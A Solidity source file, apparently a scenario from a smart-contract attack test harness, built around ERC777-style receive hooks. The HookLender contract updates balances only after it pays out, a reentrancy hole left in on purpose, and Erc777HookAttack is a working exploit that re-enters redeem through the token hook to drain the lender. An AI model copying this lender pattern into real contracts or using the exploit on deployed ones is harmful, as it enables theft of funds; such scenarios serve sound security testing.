// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

interface IReceiver {
    function tokensReceived(address from, uint256 amount) external;
}

/// Tells contracts that asked for it when they receive something.
contract HookToken is Token {
    mapping(address => bool) public listens;

    constructor() Token("HOOK", 18) {}

    function listen(bool yes) external {
        listens[msg.sender] = yes;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (listens[to]) IReceiver(to).tokensReceived(from, amount);
    }
}

/// Books after it has paid.
contract HookLender {
    HookToken public immutable token;
    mapping(address => uint256) public supplied;

    event Supply(address indexed who, uint256 amount);
    event Redeem(address indexed who, uint256 amount);

    constructor(HookToken token_) {
        token = token_;
    }

    function supply(uint256 amount) external {
        uint256 before = supplied[msg.sender];
        token.transferFrom(msg.sender, address(this), amount);
        supplied[msg.sender] = before + amount;
        emit Supply(msg.sender, amount);
    }

    function redeem(uint256 amount) external {
        uint256 before = supplied[msg.sender];
        require(before >= amount, "supplied");
        token.transfer(msg.sender, amount);
        supplied[msg.sender] = before - amount;
        emit Redeem(msg.sender, amount);
    }
}

contract Erc777HookScene is Scene {
    HookToken public token = new HookToken();
    HookLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        _asset(address(token), "HOOK", 18, 1e6);
        lender = new HookLender(token);
        token.mint(address(lender), 2_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(token)), 300_000e18);
        loot0 = IERC20(address(token));
    }

    function enrol(address[] calldata users) external override {
        _arm(token, users, 500_000e18, address(lender));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = lender.supplied(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(lender), 0, abi.encodeCall(HookLender.redeem, (held)));
        return (address(lender), 0, abi.encodeCall(HookLender.supply, (_amount(dice, 100e18, 9_000e18))));
    }
}

contract Erc777HookAttack is Attack, IReceiver {
    HookLender private immutable lender;
    HookToken private immutable token;

    constructor(Erc777HookScene scene) Attack(scene) {
        (lender, token) = (scene.lender(), scene.token());
    }

    function _act(uint256, uint256, uint256) internal override {
        token.approve(address(lender), type(uint256).max);
        lender.supply(loanAmount);
        token.listen(true);
        lender.redeem(loanAmount);
        token.listen(false);
    }

    function tokensReceived(address from, uint256) external {
        if (from == address(lender) && token.balanceOf(address(this)) < loanAmount * 5 && token.balanceOf(from) >= loanAmount) {
            lender.redeem(loanAmount);
        }
    }
}
